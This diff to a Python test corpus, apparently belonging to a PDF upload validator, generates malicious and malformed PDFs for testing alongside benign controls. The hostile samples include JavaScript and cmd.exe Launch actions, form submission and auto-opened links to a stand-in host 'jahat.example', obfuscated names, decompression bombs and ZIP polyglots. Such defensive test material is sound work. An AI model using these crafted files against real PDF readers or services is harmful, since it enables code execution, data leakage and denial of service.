@@ -4,10 +4,10 @@ import io
 import zlib
 
 import pikepdf
-from PIL import Image
 from pikepdf import Array, Dictionary, Name, OutlineItem, String
+from PIL import Image
 
-from tests.foundation.documents.corpus import NO_HARM, Sample
+from tests.foundation.documents.corpus import Sample
 from tests.foundation.documents.corpus.pictures import HTML, ZIP, draw, flipped
 
 A4 = (595, 842)
@@ -18,7 +18,9 @@ def document(pages=1, *, change=None, **how):
     with pikepdf.new() as pdf:
         for number in range(pages):
             page = pdf.add_blank_page(page_size=A4)
-            page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 700 Td (Halaman {number + 1}) Tj ET".encode())
+            page.obj.Contents = pdf.make_stream(
+                f"BT /F1 12 Tf 72 700 Td (Halaman {number + 1}) Tj ET".encode()
+            )
         if change:
             change(pdf)
         return saved(pdf, **how)
@@ -83,10 +85,14 @@ def attached(pdf):
 def active():
     script = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
     yield Sample("script on opening", opening(**script), word="program")
-    yield Sample("script among the names", with_root(Names=Dictionary(JavaScript=Dictionary(Names=[]))), word="program")
+    yield Sample(
+        "script among the names", with_root(Names=Dictionary(JavaScript=Dictionary(Names=[]))), word="program"
+    )
     yield Sample("script behind a link", linked(**script), word="program")
     yield Sample("script as a stream", opening(S=Name.JavaScript, JS=Dictionary()), word="program")
-    hidden = document(change=lambda pdf: link(pdf, action(**script)), object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    hidden = document(
+        change=lambda pdf: link(pdf, action(**script)), object_stream_mode=pikepdf.ObjectStreamMode.generate
+    )
     yield Sample("script within an object stream", hidden, word="program")
     written = linked(**script).replace(b"/JavaScript", b"/J#61vaScrip#74")
     yield Sample("script under a hidden name", written)
@@ -94,7 +100,9 @@ def active():
     yield Sample("script next in line", document(change=lambda pdf: link(pdf, chain)), word="program")
     yield Sample("program started", linked(S=Name.Launch, F="cmd.exe"), word="perintah")
     yield Sample("program started on opening", opening(S=Name.Launch, F="cmd.exe"), word="perintah")
-    yield Sample("address opened by itself", opening(S=Name.URI, URI="https://jahat.example/"), word="perintah")
+    yield Sample(
+        "address opened by itself", opening(S=Name.URI, URI="https://jahat.example/"), word="perintah"
+    )
     yield Sample("print on opening", opening(S=Name.Named, N=Name.Print), word="perintah")
     yield Sample("form sent", linked(S=Name.SubmitForm, F="https://jahat.example/"), word="perintah")
     yield Sample("data taken in", linked(S=Name.ImportData, F="data.fdf"), word="perintah")
@@ -103,10 +111,14 @@ def active():
     yield Sample("link with a script", linked(S=Name.URI, URI="javascript:alert(1)"), word="alamat")
     yield Sample("link to a file", linked(S=Name.URI, URI="file://server/share"), word="alamat")
     yield Sample("link to a share", linked(S=Name.URI, URI="smb://server/share"), word="alamat")
-    yield Sample("page that acts", annotated(Subtype=Name.Link, AA=Dictionary(E=action(**script))), word="perintah")
+    yield Sample(
+        "page that acts", annotated(Subtype=Name.Link, AA=Dictionary(E=action(**script))), word="perintah"
+    )
     yield Sample("document that acts", with_root(AA=Dictionary(WC=action(**script))), word="perintah")
     yield Sample("attached program", document(change=attached), word="berkas lain")
-    yield Sample("attached as a note", annotated(Subtype=Name.FileAttachment, FS=Dictionary(F="x")), word="berkas lain")
+    yield Sample(
+        "attached as a note", annotated(Subtype=Name.FileAttachment, FS=Dictionary(F="x")), word="berkas lain"
+    )
     yield Sample("collection", with_root(Collection=Dictionary(View=Name.T)), word="berkas lain")
     yield Sample("xfa form", with_root(AcroForm=Dictionary(Fields=[], XFA=String("<xdp/>"))), word="formulir")
     for media in ("RichMedia", "Movie", "Sound", "Screen", "3D"):
@@ -122,41 +134,62 @@ def _from_outside(pdf):
 def locked():
     for revision in (2, 3, 4, 6):
         for user in ("rahasia", ""):
-            how = pikepdf.Encryption(owner="pemilik", user=user, R=revision, aes=revision >= 4, metadata=revision >= 4)
-            yield Sample(f"locked, revision {revision}, user password {user!r}", document(encryption=how), word="terkunci")
+            how = pikepdf.Encryption(
+                owner="pemilik", user=user, R=revision, aes=revision >= 4, metadata=revision >= 4
+            )
+            yield Sample(
+                f"locked, revision {revision}, user password {user!r}",
+                document(encryption=how),
+                word="terkunci",
+            )
     strange = document().replace(b"trailer <<", b"trailer << /Encrypt << /Filter /Aneh /V 9 >>")
     yield Sample("locked in an unknown way", strange, word="terkunci")
 
 
 def bombs():
     zeros = zlib.compress(b"\0" * 150_000_000, 9)
-    yield Sample("contents of 150 MB", document(change=lambda pdf: _raw(pdf, zeros, "/FlateDecode")), word="terlalu besar")
+    yield Sample("contents of 150 MB", _packed(zeros, "/FlateDecode"), word="terlalu besar")
     twice = zlib.compress(zlib.compress(b"\0" * 30_000_000, 9), 9)
     flates = Array([Name.FlateDecode, Name.FlateDecode])
-    yield Sample("packed twice", document(change=lambda pdf: _raw(pdf, twice, flates)), word="terlalu besar")
+    yield Sample("packed twice", _packed(twice, flates), word="terlalu besar")
     written = Array([Name.ASCIIHexDecode, Name.FlateDecode])
-    hexed = zeros[:0] + zeros.hex().encode() + b">"
-    yield Sample("packed, then written out", document(change=lambda pdf: _raw(pdf, hexed, written)), word="terlalu besar")
+    hexed = zeros.hex().encode() + b">"
+    yield Sample("packed, then written out", _packed(hexed, written), word="terlalu besar")
     runs = b"\x81\0" * 1_000_000 + b"\x80"
-    yield Sample("runs", document(change=lambda pdf: _raw(pdf, runs, "/RunLengthDecode")), word="terlalu besar")
+    yield Sample("runs", _packed(runs, "/RunLengthDecode"))
     yield Sample("many streams", document(change=_many_streams), word="terlalu besar")
     yield Sample("61 pages", document(61), word="60 halaman")
     yield Sample("5000 pages", document(5_000), word="60 halaman")
     yield Sample("pages in a circle", document(change=_circle_of_pages))
     yield Sample("pages within themselves", document(change=_pages_within_themselves))
     yield Sample("drawing that draws itself", document(change=_drawing_itself), word="terlalu besar")
-    yield Sample("picture of ten thousand million pixels", document(change=_huge_picture), word="terlalu besar")
-    yield Sample("picture that unpacks beyond itself", document(change=lambda pdf: _picture(pdf, 10, 10, zeros)), word="terlalu besar")
+    yield Sample(
+        "picture of ten thousand million pixels", document(change=_huge_picture), word="terlalu besar"
+    )
+    yield Sample(
+        "picture that unpacks beyond itself",
+        document(change=lambda pdf: _picture(pdf, 10, 10, zeros)),
+        word="terlalu besar",
+    )
     yield Sample("object stream of 300 MB", _heavy_object_stream())
-    yield Sample("cross references in a circle", _circle_of_references(), becomes=NO_HARM)
-    yield Sample("half a million objects", document(change=_many_objects), word="terlalu besar")
-    yield Sample("brackets without end", b"%PDF-1.4\n1 0 obj\n" + b"[" * 400_000 + b"\nendobj\nstartxref\n9\n%%EOF")
+    yield Sample("cross references in a circle", _circle_of_references())
+    yield Sample(
+        "half a million objects", document(change=_many_objects), slot="EVIDENCE", word="terlalu besar"
+    )
+    yield Sample(
+        "brackets without end", b"%PDF-1.4\n1 0 obj\n" + b"[" * 400_000 + b"\nendobj\nstartxref\n9\n%%EOF"
+    )
 
 
-def _raw(pdf, data, filters):
-    stream = pikepdf.Stream(pdf, b"")
-    stream.write(data, filter=Name(filters) if isinstance(filters, str) else filters)
-    pdf.pages[0].obj.Contents = stream
+def _packed(data, filters):
+    """Contents as they are: saving would pack them anew."""
+
+    def change(pdf):
+        stream = pikepdf.Stream(pdf, b"")
+        stream.write(data, filter=Name(filters) if isinstance(filters, str) else filters)
+        pdf.pages[0].obj.Contents = stream
+
+    return document(change=change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
 
 
 def _many_streams(pdf):
@@ -204,10 +237,14 @@ def _heavy_object_stream():
     packed = zlib.compress(b"5 0 << >> " + b" " * 300_000_000, 9)
     body = b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 5 0 R >>\nendobj\n"
     holder = len(body)
-    body += b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
+    body += b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
+        packed
+    )
     body += packed + b"\nendstream\nendobj\n"
     rows = [(0, 0, 255), (1, 9, 0), (0, 0, 0), (0, 0, 0), (1, holder, 0), (2, 4, 0), (1, len(body), 0)]
-    table = b"".join(kind.to_bytes(1, "big") + at.to_bytes(4, "big") + more.to_bytes(1, "big") for kind, at, more in rows)
+    table = b"".join(
+        kind.to_bytes(1, "big") + at.to_bytes(4, "big") + more.to_bytes(1, "big") for kind, at, more in rows
+    )
     at = len(body)
     body += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
     return body + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
@@ -234,7 +271,9 @@ def polyglots():
 
 
 def _zip_within(plain):
-    """A record that ends a ZIP, in a comment before the cross references; everything behind it is the ZIP's comment."""
+    """A record that ends a ZIP, in a comment before the cross references; everything behind it is the ZIP's
+    comment.
+    """
     at = plain.rfind(b"startxref")
     rest = plain[at:]
     return plain[:at] + b"%PK\x05\x06" + b"\0" * 16 + (len(rest) + 1).to_bytes(2, "little") + b"\n" + rest
@@ -275,11 +314,17 @@ def good():
     yield Sample("object streams", document(3, object_stream_mode=modes.generate))
     yield Sample("nothing packed", document(3, compress_streams=False))
     yield Sample("60 pages", document(60))
-    yield Sample("added to", document() + b"\n9 0 obj\n<< >>\nendobj\nxref\n9 1\n0000000000 00000 n \nstartxref\n0\n%%EOF\n")
+    yield Sample(
+        "added to",
+        document() + b"\n9 0 obj\n<< >>\nendobj\nxref\n9 1\n0000000000 00000 n \nstartxref\n0\n%%EOF\n",
+    )
     yield Sample("blank lines before", b"\r\n\r\n" + document())
     yield Sample("byte order mark before", b"\xef\xbb\xbf" + document())
     yield Sample("padded with zeros", document() + b"\0" * 700)
-    yield Sample("cross references a little off", document(object_stream_mode=modes.disable).replace(b"%PDF-1.3\n", b"%PDF-1.3\n\n"))
+    yield Sample(
+        "cross references a little off",
+        document(object_stream_mode=modes.disable).replace(b"%PDF-1.3\n", b"%PDF-1.3\n\n"),
+    )
     yield Sample("opens at a page", document(change=_opens_at_a_page))
     yield Sample("with a table of contents", document(3, change=_with_contents))
     yield Sample("with mail and telephone links", linked(S=Name.URI, URI="mailto:sdm@contoh.id"))
@@ -300,7 +345,9 @@ def _with_contents(pdf):
 
 
 def _with_field(pdf):
-    field = Dictionary(FT=Name.Tx, T=String("nama"), V=String("Ratna"), Subtype=Name.Widget, Rect=[0, 0, 9, 9])
+    field = Dictionary(
+        FT=Name.Tx, T=String("nama"), V=String("Ratna"), Subtype=Name.Widget, Rect=[0, 0, 9, 9]
+    )
     pdf.Root.AcroForm = Dictionary(Fields=[pdf.make_indirect(field)])
 
 
